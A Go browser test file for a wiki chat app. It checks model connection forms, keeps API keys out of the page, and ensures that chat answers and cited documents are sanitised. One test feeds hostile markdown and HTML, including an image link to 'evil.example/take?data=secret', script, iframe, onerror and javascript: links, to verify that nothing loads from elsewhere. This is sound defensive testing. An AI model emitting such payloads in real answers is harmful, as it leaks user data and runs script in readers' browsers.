package web_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/holtdb/holt/llm"
	"github.com/holtdb/holt/llm/llmtest"
	"github.com/holtdb/holt/platform"
)

// fill writes an address, a model and a key into a form of models.
func fill(form, protocol, address, model, key string) chromedp.Action {
	return chromedp.Tasks{
		chromedp.WaitReady(form, chromedp.ByQuery), chromedp.Evaluate(fmt.Sprintf(`document.querySelector(%q).closest('details')?.setAttribute('open', '')`, form), nil),
		chromedp.SetValue(form+" [name=protocol]", protocol, chromedp.ByQuery),
		typed(form+" [name=url]", address), typed(form+" [name=model]", model), chromedp.SendKeys(form+" [name=key]", key, chromedp.ByQuery),
	}
}

// TestModelsInBrowser connects models, and finds out what is wrong with them.
func TestModelsInBrowser(t *testing.T) {
	t.Parallel()
	ctx, s := MustBrowseWikis(t), MustSite(t)
	s.MustStayHere(t, ctx)
	if err := s.store.SetPrivateModels(t.Context(), true); err != nil {
		t.Fatal(err)
	}
	bob := s.MustLocal(t, "bob")
	bob.MustAdd(file{"otters.txt", holtText})
	closed := llmtest.Ollama(t, llmtest.Script{})
	closed.Close()
	model := llmtest.OpenAI(t, llmtest.Script{Key: modelKey, Models: []string{"gpt-small", "embed-small"}, EmbedOnly: []string{"embed-small"}})
	const form = `form[aria-label="Your model for answers"]`
	run(t, ctx, "without a model", chromedp.Navigate(s.url+"/chat"), signIn("bob"), says(".ask-hint", "No language model is connected"), ask(holtAsked), answerIs("done"),
		says(lastTurn+" .answer-head", "The best passages"))
	screenshot(t, ctx, "chat-passages")
	run(t, ctx, "search", chromedp.Navigate(s.url+"/search?q=otter"), says(".modes-note", "Search by meaning is off"))
	screenshot(t, ctx, "search-words-only")
	run(t, ctx, "by meaning all the same", chromedp.Navigate(s.url+"/search?mode=meaning&q=otter"), says(".modes-note", "Search by meaning is off"), chromedp.WaitVisible(".results .hit-row", chromedp.ByQuery),
		click(".modes-note a"), arrived("/account/models"))
	screenshot(t, ctx, "models-none")

	for _, wrong := range []struct{ what, address, name, key, says string }{
		{"key", model.URL(), "gpt-small", "sk-wrong", "does not accept the key"},
		{"address", closed.URL(), "gpt-small", modelKey, "cannot be reached"},
		{"model", model.URL(), "gpt-huge", modelKey, "gpt-huge"},
		{"purpose", model.URL(), "embed-small", modelKey, "embed-small"},
	} {
		t.Run("a wrong "+wrong.what, func(t *testing.T) {
			run(t, ctx, "test", chromedp.Navigate(s.url+"/account/models"), fill(form, "openai", wrong.address, wrong.name, wrong.key),
				click(form+" [formaction$=test]"), chromedp.WaitVisible("#chat .flash-problem", chromedp.ByQuery))
			if got := text(t, ctx, "#chat .flash-problem"); !strings.Contains(got, wrong.says) || !strings.Contains(got, "Nothing was saved") || strings.Contains(got, wrong.key) {
				t.Errorf("a wrong %s is explained by %q", wrong.what, got)
			}
			kept := fmt.Sprintf(`document.querySelector(%q).value === %q && document.querySelector(%q).value === ''`, form+" [name=url]", wrong.address, form+" [name=key]")
			if !eval[bool](t, ctx, kept) {
				t.Error("what was typed is gone, or the key is in the page")
			}
			screenshot(t, ctx, "models-wrong-"+wrong.what)
		})
	}
	run(t, ctx, "test", chromedp.Navigate(s.url+"/account/models"), fill(form, "openai", model.URL(), "gpt-small", modelKey), click(form+" [formaction$=test]"), says("#chat .flash", "It works"))
	if eval[bool](t, ctx, `document.querySelector('.model-now strong') !== null`) {
		t.Error("a test keeps the model")
	}
	screenshot(t, ctx, "models-works")
	run(t, ctx, "save", chromedp.SendKeys(form+" [name=key]", modelKey, chromedp.ByQuery), click(form+" .primary"), says(".flash", "Saved"), says("#chat .model-now", "gpt-small"))
	if eval[bool](t, ctx, fmt.Sprintf(`document.documentElement.outerHTML.includes(%q)`, modelKey)) {
		t.Error("the page shows the key")
	}
	screenshot(t, ctx, "models-own")
	run(t, ctx, "ask", chromedp.Navigate(s.url+"/chat"), says(".ask-hint", "gpt-small, your own model"), ask(holtAsked), answerIs("done"), says(lastTurn+" .answer-about", "gpt-small"), chromedp.WaitVisible(lastTurn+" a.cite", chromedp.ByQuery))
	t.Run("of the server", func(t *testing.T) { serverModels(t, ctx, s, bob) })
}

// serverModels has the administrator connect models, which people go back to.
func serverModels(t *testing.T, ctx context.Context, s *site, bob *visitor) {
	model := llmtest.Ollama(t, llmtest.Script{Models: []string{"llama3.2:latest", "nomic-embed-text:latest"}, EmbedOnly: []string{"nomic-embed-text:latest"}})
	if err := s.store.SetAdmin(t.Context(), s.MustAccount(t, bob).ID, true); err != nil {
		t.Fatal(err)
	}
	const form = `#model form`
	run(t, ctx, "not there", chromedp.Navigate(s.url+"/admin/models"), fill(form, "ollama", model.URL(), "mistral", ""), click(form+" [formaction$=test]"), says("#model .flash-problem", "ollama pull mistral"))
	screenshot(t, ctx, "admin-models-missing")
	for _, one := range []struct{ purpose, name, works string }{
		{platform.PurposeChat, "llama3.2", "It works."}, {platform.PurposeEmbed, "nomic-embed-text", "384 numbers in each embedding"},
	} {
		run(t, ctx, one.purpose, chromedp.Navigate(s.url+"/admin/models"), chromedp.SetValue("#purpose", one.purpose, chromedp.ByQuery), fill(form, "ollama", model.URL(), one.name, ""),
			click(form+" [formaction$=test]"), says("#model .flash", one.works), until(fmt.Sprintf(`document.querySelector('#purpose').value === %q`, one.purpose)),
			click(form+" .primary"), says(".flash", "Saved"), says(".lines", one.name))
	}
	screenshot(t, ctx, "admin-models")
	run(t, ctx, "the server's again", chromedp.Navigate(s.url+"/account/models"), chromedp.Click(`//form[@data-confirm]//button[text()="Use the server’s again"]`, chromedp.BySearch),
		chromedp.WaitVisible("#confirm[open]", chromedp.ByQuery), click("[data-confirm-yes]"), says("#chat .model-now", "The server’s: llama3.2"), says("#embed .model-now", "nomic-embed-text"))
	run(t, ctx, "embedded", embedded(), chromedp.Reload(), says(".meaning", "embedded"))
	screenshot(t, ctx, "models-server")
	run(t, ctx, "ask", chromedp.Navigate(s.url+"/chat"), says(".ask-hint", "Answers by llama3.2."), ask(holtAsked), answerIs("done"), says(lastTurn+" .answer-about", "llama3.2"))
	run(t, ctx, "remove", chromedp.Navigate(s.url+"/admin/models"), click(".lines li:first-child .danger-text"), chromedp.WaitVisible("#confirm[open]", chromedp.ByQuery), click("[data-confirm-yes]"),
		says(".flash", "Saved"), until(`document.querySelectorAll('.lines li').length === 1`))
}

// TestChatHostileAnswer has the model and a document say what would load things
// from elsewhere, or lead there.
func TestChatHostileAnswer(t *testing.T) {
	t.Parallel()
	s := MustTalk(t, llmtest.Script{})
	const elsewhere = "https://evil.example/take?data=secret"
	bad := "See ![x](" + elsewhere + ") and [here](" + elsewhere + "), <img src='" + elsewhere + "' onerror=\"console.error('ran')\"> <a href=\"" + elsewhere + "\">or here</a> " +
		"<script>console.error('ran')</script><iframe src='" + elsewhere + "'></iframe><style>@import '" + elsewhere + "'</style> " + elsewhere + " [1](javascript:console.error('ran')) holt [1]."
	gate := llmtest.NewGate()
	s.model.Change(func(script *llmtest.Script) {
		script.Reply, script.Gate = func([]llm.Message) string { return bad }, gate
	})
	s.api.MustAdd(file{"otters.md", "# Holt <b>x</b>\n\nThe otter sleeps in a holt ![x](" + elsewhere + ") <img src=" + elsewhere + "> by the river bank. " + bad})
	run(t, s.ctx, "ask", chromedp.Navigate(s.url+"/chat"), signIn("bob"), embedded(), ask(holtAsked), answerIs("running"))
	const none = `document.querySelectorAll('.answer :is(img, iframe, script, style, link, object, svg:not(.icon)), .preview img').length === 0 &&
		[...document.querySelectorAll('.answer [href], .answer [src], .answer [action]')].every((e) => new URL(e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action'), location).origin === location.origin)`
	step(t, gate, len(llmtest.Tokens(bad))-2)
	run(t, s.ctx, "on its way", says("[data-text]", "@import"))
	if !eval[bool](t, s.ctx, none) {
		t.Error("the answer on its way leads elsewhere")
	}
	gate.Open()
	run(t, s.ctx, "the end", answerIs("done"), chromedp.WaitVisible(lastTurn+" a.cite", chromedp.ByQuery))
	if !eval[bool](t, s.ctx, none) {
		t.Errorf("the answer leads elsewhere: %s", eval[string](t, s.ctx, `document.querySelector('.answer').outerHTML`))
	}
	screenshot(t, s.ctx, "chat-hostile")
	run(t, s.ctx, "the cited page", click(lastTurn+" a.cite"), chromedp.WaitReady("[data-panel] .panel-body", chromedp.ByQuery))
	if eval[bool](t, s.ctx, `document.querySelector('[data-panel-body] :is(iframe, script, style, object), [data-panel-body] img[src*="evil"]') !== null`) {
		t.Error("the cited page loads things from elsewhere")
	}
	run(t, s.ctx, "open again", chromedp.Reload(), chromedp.WaitVisible(".answer", chromedp.ByQuery))
	if !eval[bool](t, s.ctx, none) {
		t.Error("the kept answer leads elsewhere")
	}
}
